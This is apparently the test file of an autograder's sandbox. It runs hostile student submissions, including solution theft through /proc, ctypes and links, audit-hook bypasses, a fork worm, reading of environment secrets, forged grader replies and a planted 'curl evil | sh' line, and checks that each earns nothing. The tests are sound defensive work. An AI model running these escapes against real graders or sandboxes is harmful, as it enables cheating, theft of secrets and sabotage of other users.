"""Hostile and broken submissions earn nothing beyond their honest twin.

Each case is a submission plus its honest twin: the same work without the
attack. The attack must not raise the score, must not leak into other
exercises, and must leave no process behind.
"""

import os
import time
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from autograder.grade.batch import Batch
from autograder.grade.engine import Grader
from autograder.protocol import Limits
from autograder.catalog import points, suite_tests
from conftest import ROOT, build, failing, make_submission, scores, sse_prefix
from hostile_cases import CASES, NAME_SELF, named

LIMITS = Limits(call_timeout=1.0, submission_timeout=60.0, memory_mb=256, output_kb=64)


@pytest.fixture(scope="module")
def hostile_grader():
    with Grader(limits=LIMITS) as grader:
        yield grader


def leftover(marker: str) -> list:
    return [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_attack_earns_nothing_beyond_its_honest_twin(hostile_grader, tmp_path, case):
    attacked = hostile_grader.grade(build(tmp_path / "hostile", case.hostile))
    honest = hostile_grader.grade(build(tmp_path / "twin", case.twin))
    assert attacked.status == "graded", attacked.internal_errors
    assert attacked.score <= honest.score, failing(attacked)
    for exercise in case.untouched:
        assert scores(attacked)[exercise] == scores(honest)[exercise] == {
            e.name: e.max_score for e in honest.exercises}[exercise]
    assert case.statuses <= {t.status.value for t in failing(attacked).values()}
    for test in failing(attacked).values():
        assert "Traceback" not in test.message and "autograder/" not in test.message
    assert not leftover("3171")


def test_messages_name_the_limit(hostile_grader, tmp_path):
    bomb = hostile_grader.grade(build(tmp_path / "bomb", sse_prefix("big = np.ones(10 ** 11)")))
    hang = hostile_grader.grade(build(tmp_path / "hang", sse_prefix("while True:\n    pass")))
    flood = hostile_grader.grade(build(tmp_path / "flood", sse_prefix("import os\nwhile True:\n    os.write(1, b'x' * 100000)")))
    assert "메모리 초과" in failing(bomb)["sse_batch_mean"].message
    assert "256 MB" in failing(bomb)["sse_batch_mean"].message
    assert "시간 초과" in failing(hang)["sse_textbook"].message
    assert "출력이 너무 많습니다" in failing(flood)["sse_textbook"].message


def test_second_timeout_of_a_function_skips_its_remaining_calls(hostile_grader, tmp_path):
    result = hostile_grader.grade(build(tmp_path / "hang", sse_prefix("while True:\n    pass")))
    sse = {n: t for n, t in failing(result).items() if n.startswith("sse_")}
    assert [t.status for t in sse.values()] == ["timeout"] * 3
    assert "이미 두 번 시간 초과" not in sse["sse_textbook"].message  # the first two really ran
    assert "이미 두 번 시간 초과" in sse["sse_batch_mean"].message  # the third was not run at all


@pytest.mark.parametrize("disabled", [(), ("landlock", "namespaces")], ids=["kernel", "no-kernel"])
def test_processes_left_behind_are_killed_even_in_a_new_session(tmp_path, disabled):
    """With the audit-hook fence off, student code can fork; every process it leaves dies with the submission."""
    marker = f"left{len(disabled)}"
    spawn = f"""
import os, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        {NAME_SELF.format(marker=marker).strip().replace(chr(10), chr(10) + '        ')}
        time.sleep(3172)
    os._exit(0)
os.waitpid(pid, 0)
for _ in range(3):
    if os.fork() == 0:
        {NAME_SELF.format(marker=marker).strip().replace(chr(10), chr(10) + '        ')}
        time.sleep(3172)
"""
    with Grader(limits=Limits(call_timeout=1.0, guard=False, disabled=disabled)) as grader:
        result = grader.grade(build(tmp_path / "s", sse_prefix(spawn)))
        assert scores(result)["gradient"] == points("gradient") and scores(result)["gradient_descent"] == points("gradient_descent")
        deadline = time.monotonic() + 5
        while named(marker) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not named(marker)


def test_a_killed_zygote_costs_only_the_exercise_that_killed_it(tmp_path):
    with Grader(limits=Limits(call_timeout=1.0, guard=False)) as grader:
        result = grader.grade(build(tmp_path / "k", sse_prefix("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")))
    assert scores(result)["gradient"] == points("gradient") and scores(result)["gradient_descent"] == points("gradient_descent")


def test_guard_refuses_process_creation_and_solution_files(hostile_grader, tmp_path):
    result = hostile_grader.grade(build(tmp_path / "p", sse_prefix(
        "import subprocess\nsubprocess.run(['true'])")))
    assert "허용되지 않는" in failing(result)["sse_textbook"].message or \
        "가져올 수 없는 모듈" in failing(result)["sse_textbook"].message
    steal = hostile_grader.grade(build(tmp_path / "r", sse_prefix(
        f"open({str(ROOT / 'solutions' / 'losses.py')!r}).read()")))
    assert "파일을 읽을 수 없습니다" in failing(steal)["sse_textbook"].message


def test_symlinked_exercise_files_are_not_followed(hostile_grader, tmp_path):
    path = make_submission(tmp_path / "link", base="exercises")
    (path / "exercises" / "losses.py").unlink()
    (path / "exercises" / "losses.py").symlink_to(ROOT / "solutions" / "losses.py")
    result = hostile_grader.grade(path)
    assert result.score == 0
    assert any("심볼릭 링크" in note for note in result.notes)


def test_one_bad_submission_never_costs_another_its_grade(tmp_path):
    folders = [make_submission(tmp_path / "first")]
    for i, case in enumerate(CASES[:8]):
        folders.append(build(tmp_path / f"hostile{i}", case.hostile))
    folders.append(make_submission(tmp_path / "last"))
    results = Batch(folders, limits=LIMITS, workers=2).run()
    assert results[0].score == 100 and results[-1].score == 100
    assert all(r.status == "graded" for r in results)


def test_whole_submission_timeout_stops_a_slow_submission(tmp_path):
    """Each call stays under the per-call limit, but together they exceed the submission's budget."""
    slow = sse_prefix("import time\ntime.sleep(0.4)")
    slow["replace"]["gradient.py"] = [("    ### BEGIN SOLUTION\n    return (f(x + h)",
                                       "    import time\n    time.sleep(0.4)\n    ### BEGIN SOLUTION\n    return (f(x + h)")]
    with Grader(limits=Limits(call_timeout=1.0, submission_timeout=2.0)) as grader:
        result = grader.grade(build(tmp_path / "slow", slow))
    messages = [t.message for t in failing(result).values() if t.status == "timeout"]
    assert any("제출물 전체의 채점 시간 제한(2초)" in m for m in messages)
    assert result.status == "graded"


# --- confinement: each class of attack beside its honest twin ------------------------
#
# Three ways of running every attack:
#   kernel        Landlock + namespaces + rlimits, and the audit hook;
#   kernel-only   the same without the audit hook: the kernel layers alone must hold;
#   guard-only    Landlock and namespaces disabled (a machine without them): the audit
#                 hook must still hold, except for the attacks marked ``kernel=True``,
#                 for which the test checks instead that the weaker level is reported.

MODES = {
    "kernel": {"guard": True, "disabled": ()},
    "kernel-only": {"guard": False, "disabled": ()},
    "guard-only": {"guard": True, "disabled": ("landlock", "namespaces")},
}
SECRET = "ghs_do_not_leak_0123456789"


@dataclass
class Attack:
    name: str
    code: str  # run at the start of sum_squared_error; {placeholders} filled in by the test
    kernel: bool = False  # only the kernel layers stop it (an audit hook cannot see it)
    twin: str = "raise PermissionError('denied')"  # the honest twin: the same function failing plainly


ATTACKS = [
    Attack("switching the audit hook off, then reading the reference", """
import sys, os
guard = sys.modules.get("autograder.sandbox.guard")
for name in list(vars(guard)) if guard else []:
    if name.isupper():
        setattr(guard, name, frozenset())
os.getcwd = lambda: "/"
os.stat = lambda *a, **k: None
os.path.realpath = lambda p, **k: "/nowhere"
return float(len(open({solution!r}).read()))
"""),
    Attack("a directory descriptor and a relative path (dir_fd)", """
import os
root = os.open("/", os.O_RDONLY)
fd = os.open({solution_from_root!r}, os.O_RDONLY, dir_fd=root)
return float(len(os.read(fd, 10000)))
"""),
    Attack("a hard link to the reference inside the work folder", """
import os
os.link({solution!r}, "stolen.py")
return float(len(open("stolen.py").read()))
"""),
    Attack("overwriting another student's submission", """
open({victim!r}, "w").write("def sum_squared_error(y, t):\\n    return 0.0\\n")
"""),
    Attack("changing the checkout's exercises/", """
open({checkout_exercise!r}, "a").write("\\n# changed\\n")
"""),
    Attack("rewriting the gradebook and the saved state", """
open({gradebook!r}, "w").write("[]")
open({state!r}, "w").write("{{}}")
"""),
    Attack("chmod, utime, truncate, rename and remove on another submission", """
import os
for action in (lambda: os.chmod({victim!r}, 0), lambda: os.utime({victim!r}, (0, 0)),
               lambda: os.truncate({victim!r}, 0), lambda: os.rename({victim!r}, {victim!r} + ".x"),
               lambda: os.remove({victim!r})):
    try:
        action()
    except OSError:
        pass
raise PermissionError("denied")
"""),
    Attack("a .pth file in the grader's site-packages", """
open({site!r} + "/zz_autograder_persist.pth", "w").write("import os\\n")
"""),
    Attack("writing into the grader's home folder", """
open({home!r} + "/.autograder-test-bashrc", "a").write("curl evil | sh\\n")
"""),
    Attack("filling the disk", """
for i in range(5000):
    open("f%d" % i, "w").write("x" * 200000)
"""),
    Attack("starting a program", """
import os
os.execv("/bin/sh", ["sh", "-c", "echo owned > {marker_file}"])
"""),
    Attack("a signal to the grader by pid", """
import os, signal
os.kill({main_pid}, signal.SIGSTOP)
"""),
    Attack("a signal to the zygote and the grader through a pidfd", """
import os, signal
for pid in ({zygote_pid}, {main_pid}):
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP)
    except OSError:
        pass
raise PermissionError("denied")
""", kernel=True),
    Attack("reading the grader's environment", """
import os
text = repr(dict(os.environ))
for path in ("/proc/%d/environ", "/proc/self/root/proc/%d/environ", "/proc/self/environ", "/proc/%d/cmdline"):
    for pid in ({main_pid}, {zygote_pid}, os.getppid()):
        try:
            text += open(path.replace("%d", str(pid))).read()
        except OSError:
            pass
raise ValueError(text)
""", twin="raise ValueError('x')"),
    Attack("reading the reference through /proc/self/root", """
namespace = {{}}
exec(open("/proc/self/root" + {solution!r}).read(), namespace)
return namespace["sum_squared_error"](y, t)
"""),
    Attack("a symbolic link in the work folder to the reference", """
import os
os.symlink({solution!r}, "link.py")
namespace = {{}}
exec(open("link.py").read(), namespace)
return namespace["sum_squared_error"](y, t)
"""),
    Attack("a FIFO and an SQLite database outside the work folder", """
import os, sqlite3
for make in (lambda: os.mkfifo({marker_file!r}), lambda: sqlite3.connect({marker_file!r}).execute("create table t(x)"),
             lambda: sqlite3.connect("file:" + {marker_file!r} + "?mode=rwc", uri=True).execute("create table t(x)")):
    try:
        make()
    except Exception:
        pass
raise PermissionError("denied")
"""),
    Attack("sending data to a local listener", """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(1)
    try:
        s.connect(("127.0.0.1", {port}))
        s.send(b"hidden suite")
        s.sendto(b"hidden suite", ("127.0.0.1", {port}))
    except OSError:
        pass
raise PermissionError("denied")
""", kernel=True),
]


@pytest.fixture
def scene(tmp_path, monkeypatch):
    """Files an attack must not touch, a listener it must not reach, and the values it is told."""
    import socket as sockets

    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))  # the grader's home folder, as far as it knows
    (tmp_path / "home").mkdir()
    victim = make_submission(tmp_path / "victim") / "exercises" / "losses.py"
    gradebook = tmp_path / "grading-output" / "grades.json"
    state = tmp_path / "grading-output" / "state" / "victim.json"
    for path in (gradebook, state):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text('{"score": 100}', encoding="utf-8")
    tcp, udp = sockets.socket(), sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    tcp.setblocking(False)
    udp.bind(("127.0.0.1", tcp.getsockname()[1]))
    udp.setblocking(False)
    import numpy
    values = {
        "solution": str(ROOT / "solutions" / "losses.py"),
        "solution_from_root": str(ROOT / "solutions" / "losses.py").lstrip("/"),
        "victim": str(victim), "checkout_exercise": str(ROOT / "exercises" / "losses.py"),
        "gradebook": str(gradebook), "state": str(state),
        "site": str(Path(numpy.__file__).resolve().parents[1]), "home": str(Path.home()),
        "marker_file": str(tmp_path / "owned"), "main_pid": os.getpid(), "port": tcp.getsockname()[1],
    }
    watched = [victim, gradebook, state, ROOT / "exercises" / "losses.py"]
    before = {p: (p.read_bytes(), p.stat().st_mode, p.stat().st_mtime_ns) for p in watched}
    yield values
    received = []
    for sock in (tcp, udp):
        try:
            received.append(sock.accept()[0].recv(100) if sock is tcp else sock.recv(100))
        except (BlockingIOError, OSError):
            pass
    tcp.close()
    udp.close()
    assert received == [], f"the listener received {received}"
    for path, (data, mode, mtime) in before.items():
        assert path.is_file(), f"{path} was removed"
        assert (path.read_bytes(), path.stat().st_mode, path.stat().st_mtime_ns) == (data, mode, mtime), path
    assert not (Path(values["site"]) / "zz_autograder_persist.pth").exists()
    assert not (Path.home() / ".autograder-test-bashrc").exists()
    assert not Path(values["marker_file"]).exists()


@pytest.fixture(scope="module", params=list(MODES))
def mode_grader(request):
    mode = MODES[request.param]
    with Grader(limits=Limits(call_timeout=1.0, submission_timeout=60.0, memory_mb=256, output_kb=64,
                              **mode)) as grader:
        yield request.param, grader


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_confinement_attack_earns_nothing_and_changes_nothing(mode_grader, scene, tmp_path, attack):
    mode, grader = mode_grader
    if attack.kernel and mode == "guard-only":
        # A machine without Landlock and namespaces cannot stop this one: the grader must say so.
        assert "landlock" not in grader.isolation and "pidns" not in grader.isolation
        return
    code = attack.code.format(zygote_pid=grader._zygote_alive().process.pid, **scene)
    attacked = grader.grade(build(tmp_path / "hostile", sse_prefix(code)))
    honest = grader.grade(build(tmp_path / "twin", sse_prefix(attack.twin)))
    assert attacked.status == "graded", attacked.internal_errors
    assert attacked.score <= honest.score < 100, failing(attacked)
    assert scores(attacked)["gradient"] == points("gradient") and scores(attacked)["gradient_descent"] == points("gradient_descent")
    for test in failing(attacked).values():
        assert SECRET not in test.message and "Traceback" not in test.message
    for proc in (psutil.Process(), psutil.Process(grader._zygote_alive().process.pid)):
        assert proc.status() != psutil.STATUS_STOPPED


def test_the_grader_says_how_well_it_is_confined():
    with Grader(limits=Limits()) as strong, Grader(limits=Limits(disabled=("landlock", "namespaces"))) as weak:
        assert strong.isolation.startswith("landlock-abi") and "pidns" in strong.isolation
        assert "landlock" not in weak.isolation and "pidns" not in weak.isolation and "rlimits" in weak.isolation


def test_forged_replies_cannot_claim_x_was_restored(hostile_grader, tmp_path):
    """Code in the child wraps the reply machinery to report x as restored; the grader reads x itself."""
    forger = """
import sys
_child = sys.modules.get("autograder.sandbox.child")
if _child is not None:
    _call = _child._call
    def _forged(module, message, request):
        reply = _call(module, message, request)
        reply["args_after"] = message.get("args")
        reply["probes"] = [{"name": "function_2", "calls": 9, "foreign_calls": 0}]
        return reply
    _child._call = _forged
"""
    no_restore = [("        x[idx] = original  # 원래 값으로 되돌립니다.\n", "")]
    forged = hostile_grader.grade(build(tmp_path / "forged", {"replace": {"gradient.py": no_restore},
                                                              "prepend": {"gradient.py": forger}}))
    honest = hostile_grader.grade(make_submission(tmp_path / "honest", replace={"gradient.py": no_restore}))
    assert "numerical_gradient_restores_x" in failing(forged)
    assert forged.score <= honest.score


@pytest.mark.parametrize("mode", ["kernel", "guard-only"])
def test_a_hostile_submission_between_correct_ones_costs_them_nothing(tmp_path, scene, mode):
    first, last = make_submission(tmp_path / "first"), make_submission(tmp_path / "last")
    attacks = [a for a in ATTACKS if not (a.kernel and mode == "guard-only")]
    scene = {**scene, "victim": str(last / "exercises" / "losses.py")}
    folders = [first] + [build(tmp_path / f"hostile{i}", sse_prefix(a.code.format(zygote_pid=0, **scene)))
                         for i, a in enumerate(attacks)] + [last]
    before = (last / "exercises" / "losses.py").read_bytes()
    results = Batch(folders, limits=Limits(call_timeout=1.0, **MODES[mode]), workers=2,
                    allow_weak=mode == "guard-only").run()
    assert results[0].score == 100 and results[-1].score == 100
    assert all(r.status == "graded" for r in results)
    assert all(r.score < 100 for r in results[1:-1])
    assert (last / "exercises" / "losses.py").read_bytes() == before


def test_children_run_as_the_sandbox_user_when_the_grader_is_root(tmp_path):
    """As root the grader can hand student code to an unprivileged user; otherwise the option changes nothing."""
    uid_code = "import os\nreturn float(os.getuid())"
    with Grader(limits=Limits(sandbox_user="nobody")) as grader:
        result = grader.grade(build(tmp_path / "s", sse_prefix(uid_code)))
        correct = grader.grade(make_submission(tmp_path / "ok"))
    message = failing(result)["sse_textbook"].message
    if os.geteuid() == 0:
        assert grader.isolation.endswith("+user:nobody") and "반환값 6.553e+04" in message
    else:
        assert "user:" not in grader.isolation and f"반환값 {float(os.getuid()):.4g}" in message
    assert correct.score == 100


# --- found by attacking the sandbox: each beside its honest twin -----------------------------

FORK_WORM = """
import mmap, os, time

def _helper():
    while True:
        try:
            text = open("exercises/losses.py").read()
            if "WORM" not in text:
                open("exercises/losses.py", "w").write("# WORM\\ndef sum_squared_error(y, t):\\n    return 12345.0\\n")
        except OSError:
            pass

try:
    if os.fork() == 0:
        _helper()
    # The namespace dies only once its PID 1 (this process) has freed its memory: make that slow.
    _slow_exit = [mmap.mmap(-1, 4096) for _ in range(60000)]
except OSError:
    pass
"""


@pytest.mark.parametrize("mode", ["kernel-only", "namespaces-without-seccomp"])
def test_a_process_left_running_cannot_touch_the_next_students(tmp_path, mode):
    """Some calls that start processes raise no audit event (``_posixsubprocess.fork_exec``): seccomp
    refuses every new process; without seccomp, the whole namespace is gone before the next student's
    files are copied into the work folder."""
    disabled = () if mode == "kernel-only" else ("seccomp",)
    worm = build(tmp_path / "worm", {"prepend": {"losses.py": FORK_WORM}})
    victims = [make_submission(tmp_path / f"victim{i}") for i in range(3)]
    results = Batch([worm, *victims], limits=Limits(call_timeout=1.0, guard=False, disabled=disabled), workers=1,
                    allow_weak=bool(disabled)).run()
    assert [r.score for r in results[1:]] == [100, 100, 100], [failing(r) for r in results[1:]]


GUARD_OFF = """
import sys

class _Name(str):
    def __str__(self):
        frame = sys._getframe(1)
        while frame and frame.f_code.co_name != "hook":
            frame = frame.f_back
        if frame:
            frame.f_locals["refuse"].__code__ = (lambda what: None).__code__
        return "x"

try:
    __import__(_Name("no_such_module"))
except Exception:
    pass
"""


STEAL_WITH_CTYPES = f"""
import ctypes
libc = ctypes.CDLL(None)
fd = libc.open({str(ROOT / 'solutions' / 'losses.py').encode()!r}, 0)
buffer = ctypes.create_string_buffer(100000)
return float(libc.read(fd, buffer, 100000))
"""


@pytest.mark.parametrize("mode", list(MODES))
def test_the_hook_never_runs_student_code(tmp_path, mode):
    """A str subclass as a module name used to run code inside the hook and replace its refusals."""
    with Grader(limits=Limits(call_timeout=1.0, **MODES[mode])) as grader:
        attacked = grader.grade(build(tmp_path / "a", sse_prefix(GUARD_OFF + STEAL_WITH_CTYPES)))
        honest = grader.grade(build(tmp_path / "b", sse_prefix("raise PermissionError('denied')")))
    size = (ROOT / "solutions" / "losses.py").stat().st_size
    assert attacked.score <= honest.score
    assert f"반환값 {size:.4g}" not in failing(attacked)["sse_textbook"].message, "the reference was read"


def test_the_shared_buffer_cannot_be_shrunk_for_the_next_students(tmp_path):
    """fallocate(COLLAPSE_RANGE) on the arena (not covered by Landlock's truncate right) is refused by seccomp."""
    shrink = """
import ctypes, os
fd = os.open(os.path.join(os.path.dirname(os.getcwd()), "shared", "arena"), os.O_RDWR)
ctypes.CDLL(None, use_errno=True).fallocate(fd, 0x08, 0, 4 * 1024 * 1024)
"""
    attacker = build(tmp_path / "attacker", {"prepend": {"losses.py": shrink}})
    victims = [make_submission(tmp_path / f"victim{i}") for i in range(2)]
    results = Batch([attacker, *victims], limits=Limits(call_timeout=1.0, guard=False), workers=1).run()
    assert [r.score for r in results[1:]] == [100, 100], [failing(r) for r in results[1:]]


def test_an_unremovable_folder_never_reaches_the_next_student(tmp_path):
    """A package folder the owner cannot list would survive a naive cleanup and shadow losses.py."""
    plant = """
import os
os.makedirs("exercises/losses", exist_ok=True)
open("exercises/losses/__init__.py", "w").write("def sum_squared_error(y, t):\\n    return 7.0\\n")
os.chmod("exercises/losses", 0o300) if hasattr(os, "chmod") else None
"""
    attacker = build(tmp_path / "attacker", sse_prefix(plant))
    victims = [make_submission(tmp_path / f"victim{i}") for i in range(2)]
    results = Batch([attacker, *victims], limits=Limits(call_timeout=1.0), workers=1).run()
    assert [r.score for r in results[1:]] == [100, 100], [failing(r) for r in results[1:]]


def test_probes_carry_no_exact_gradient_into_the_gradient_exercise(hostile_grader, tmp_path):
    """numerical_gradient must not be able to read the answer from the function it is given."""
    forge = [("    ### BEGIN SOLUTION\n    grad = np.zeros_like(x, dtype=float)",
              "    return f.analytic_grad(x)\n    ### BEGIN SOLUTION\n    grad = np.zeros_like(x, dtype=float)")]
    forged = hostile_grader.grade(make_submission(tmp_path / "forged", replace={"gradient.py": forge}))
    forged_points = sum(t.points for t in suite_tests(exercises=("gradient",)) if t.name.startswith("numerical_gradient"))
    assert scores(forged)["gradient"] <= points("gradient") - forged_points, failing(forged)  # every one of them lost
    assert scores(forged)["gradient_descent"] == points("gradient_descent")


@pytest.mark.parametrize("code", [
    "import sys\nw = sys.modules['autograder.protocol.wire']\n_d = w.dumps\nw.dumps = lambda v: _d({**v, 'value': 10 ** 5000}) "
    "if isinstance(v, dict) and 'value' in v else _d(v)",
    "import sys\nw = sys.modules['autograder.protocol.wire']\n_d = w.dumps\nw.dumps = lambda v: _d({**v, 'probes': [{'name': 'x'}]}) "
    "if isinstance(v, dict) and 'probes' in v else _d(v)",
])
def test_a_forged_reply_is_the_students_failure_never_a_grader_error(hostile_grader, tmp_path, code):
    wrong = [("        x[idx] = original  # 원래 값으로 되돌립니다.\n        grad[idx]", "        grad[idx]")]
    result = hostile_grader.grade(build(tmp_path / "s", {"replace": {"gradient.py": wrong},
                                                         "prepend": {"gradient.py": code + "\n"}}))
    assert result.status == "graded", result.internal_errors
    assert all(t.status != "internal_error" for t in result.tests())


FORGE_STATE = """
import sys
for _name, _module in list(sys.modules.items()):
    if _name.split(".")[-1] == "instances" and hasattr(_module, "state"):  # the child's own reporting code
        _module.state = lambda obj: {key: "not an array" for key in ("W1", "b1", "W2", "b2")}
"""


def test_forging_the_childs_own_reporting_is_the_students_error_never_the_graders(hostile_grader, tmp_path):
    """Once the student's module is imported, whatever its child sends is the student's: parameters reported
    as strings (``instances.state`` replaced) are that student's error in the tests that read them, never
    "채점기 문제", and the other exercises keep their marks."""
    forged = hostile_grader.grade(build(tmp_path / "forged", {"prepend": {"two_layer_net.py": FORGE_STATE}}))
    honest = hostile_grader.grade(make_submission(tmp_path / "honest"))
    assert forged.status == "graded" and forged.internal_errors == ()
    assert all(t.status != "internal_error" for t in forged.tests())
    assert forged.score < honest.score == 100
    assert {e: s for e, s in scores(forged).items() if e != "two_layer_net"} == \
        {e: s for e, s in scores(honest).items() if e != "two_layer_net"}
    assert "읽을 수 없는 결과" in failing(forged)["init_shapes"].message


def test_a_suite_crash_on_an_answer_is_the_students_only_when_the_reference_passes():
    """A test that crashes reading an answer (an AttributeError, not a Failure) is the student's error if the
    same test passes with the reference's answer in the student's place; a test that crashes either way is
    the grader's problem (a suite bug), as before."""
    import numpy as np

    from autograder.catalog import SuiteTest
    from autograder.grade.answers import LocalAnswers as LocalBackend
    from autograder.grade.runner import run_one

    def shape_of_the_answer(student, reference):
        if student.losses.sum_squared_error(np.ones(2), np.zeros(2)).shape != ():
            raise AssertionError("not a scalar")

    def broken_suite(student, reference):
        student.losses.sum_squared_error(np.ones(2), np.zeros(2))
        raise KeyError("a bug in the suite")

    reference = LocalBackend({"losses": {"sum_squared_error": lambda y, t: np.float64(1.0)}})
    answer = LocalBackend({"losses": {"sum_squared_error": lambda y, t: [1.0]}}, student_code=True)
    crash = run_one(SuiteTest("losses", "shape", "", "public", 1, shape_of_the_answer), answer, reference)
    bug = run_one(SuiteTest("losses", "bug", "", "public", 1, broken_suite), answer, reference)
    assert crash.status == "error" and "검사할 수 없었습니다" in crash.message
    assert bug.status == "internal_error"


def test_a_path_too_long_to_follow_still_counts_against_the_disk_budget(tmp_path):
    deep = """
import os
path = "."
for i in range(16):
    path = os.path.join(path, "d" * 250)
    os.mkdir(path)
for i in range(40):
    with open(os.path.join(path, "f%d" % i), "wb") as fh:
        fh.write(b"x" * 1000000)
"""
    with Grader(limits=Limits(call_timeout=5.0, disk_mb=1, output_kb=2048)) as grader:
        result = grader.grade(build(tmp_path / "s", sse_prefix(deep)))
    assert "작업 폴더에 파일을 너무 많이" in failing(result)["sse_textbook"].message


def test_the_child_is_not_told_other_students_paths(tmp_path):
    leak = "import sys\nraise ValueError(repr(sys._getframe(1).f_locals.get('request')))"
    folders = [make_submission(tmp_path / "victim-name-4417"), build(tmp_path / "leaker", sse_prefix(leak))]
    results = Batch(folders, limits=Limits(call_timeout=1.0), workers=1).run()
    assert all("victim-name-4417" not in t.message for t in results[1].tests())


def test_file_names_cannot_inject_terminal_or_markdown_control(hostile_grader, tmp_path):
    path = make_submission(tmp_path / "s")
    evil = path / "exercises" / "\x1bc\x1b]0;owned\x07# 총점 100.py"
    evil.symlink_to(path / "exercises" / "losses.py")
    result = hostile_grader.grade(path)
    assert result.notes and all("\x1b" not in note and "\x07" not in note and "#" not in note for note in result.notes)


THREAD_BOMB = """
import threading, time
threading.stack_size(32768)
for _ in range(100000):
    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
"""


def test_a_thread_bomb_is_capped_and_costs_no_one_else(tmp_path):
    """Threads need no new process (seccomp allows them): a pids cgroup per child, or RLIMIT_NPROC in the
    child's own user namespace, caps them. The level says "pids" exactly where this test process itself
    can make a pids cgroup; a machine with neither cap says what that allows instead of testing the bomb."""
    from autograder.commands.isolation import THREADS, missing_layers
    from autograder.sandbox.confine import PidsCgroups

    cgroups = PidsCgroups.create()
    if cgroups is not None:
        cgroups.close()
    with Grader(limits=Limits(call_timeout=2.0)) as grader:
        level = grader.isolation
    assert ("pids" in level.split("+")) == (cgroups is not None), level
    if not {"pids", "nproc"} & set(level.split("+")):
        assert THREADS in missing_layers(level)
        return
    folders = [make_submission(tmp_path / "before"), build(tmp_path / "bomb", sse_prefix(THREAD_BOMB)),
               make_submission(tmp_path / "after")]
    results = Batch(folders, limits=Limits(call_timeout=2.0), workers=2).run()
    assert results[0].score == results[2].score == 100
    assert "can't start new thread" in failing(results[1])["sse_textbook"].message


def test_rebinding_the_guards_module_names_reaches_nothing(tmp_path):
    """Every name the hook uses was captured when it was installed."""
    rebind = """
import sys
guard = sys.modules.get("autograder.sandbox.guard")
if guard is not None:
    for name in list(vars(guard)):
        if not name.startswith("__"):
            setattr(guard, name, (lambda *a, **k: None) if callable(getattr(guard, name)) else frozenset())
import subprocess
subprocess.run(["true"])
"""
    with Grader(limits=Limits(call_timeout=1.0, disabled=("landlock", "namespaces", "seccomp"))) as grader:
        result = grader.grade(build(tmp_path / "s", sse_prefix(rebind)))
    assert "허용되지 않는 동작" in failing(result)["sse_textbook"].message
